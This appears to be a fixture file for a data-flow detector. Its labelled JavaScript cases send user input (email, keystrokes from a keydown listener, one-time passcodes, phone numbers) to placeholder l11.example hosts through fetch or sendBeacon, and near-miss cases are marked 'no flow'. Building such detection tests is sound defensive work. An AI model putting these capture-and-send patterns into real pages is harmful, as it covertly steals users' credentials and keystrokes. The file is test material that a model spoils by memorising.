//# arrow-field-called-on-instance
// flow: email > afc.l11.example via fetch
class Api1 { base = 'https://afc.l11.example'; join = async (mail) => { await fetch(this.base + '/join', { method: 'POST', body: mail }); }; }
const api1 = new Api1();
document.querySelector('#go').onclick = () => api1.join(document.querySelector('input[type=email]').value);

//# near-arrow-field-of-another-class
// no flow
class Show2 { put = (v) => { document.querySelector('#len').textContent = v.length; }; }
class Push2 { put = (v) => { fetch('https://naf.l11.example/', { method: 'POST', body: v }); }; }
new Show2().put(document.querySelector('input[type=password]').value);
new Push2().put('ready');

//# arrow-field-as-handler
// flow: keystrokes > afh.l11.example via beacon
// guard: event keydown
class Watch3 {
  constructor(root) { root.addEventListener('keydown', this.onKey); }
  onKey = (e) => { navigator.sendBeacon('https://afh.l11.example/', e.key); };
}
new Watch3(document.body);

//# private-arrow-field
// flow: otp > paf.l11.example via fetch
class Verify4 {
  #send = (code) => fetch('https://paf.l11.example/', { method: 'POST', body: code });
  check() { return this.#send(document.querySelector('input[autocomplete=one-time-code]').value); }
}
document.querySelector('form').onsubmit = () => { new Verify4().check(); return false; };

//# field-made-in-component
// flow: phone > fmc.l11.example via fetch
class Call5 extends HTMLElement {
  connectedCallback() {
    this.box = document.createElement('input');
    this.box.type = 'tel';
    this.append(this.box);
    this.box.addEventListener('change', this.report);
  }
  report = () => { fetch('https://fmc.l11.example/?n=' + encodeURIComponent(this.box.value)); };
}
customElements.define('call-me', Call5);

//# near-field-of-component-emptied
// no flow
class Call6 {
  constructor(root) { this.box = document.createElement('input'); this.box.type = 'tel'; root.append(this.box); }
  report() { fetch('https://nfc.l11.example/?filled=' + (this.box.value !== '')); }
}
new Call6(document.body).report();
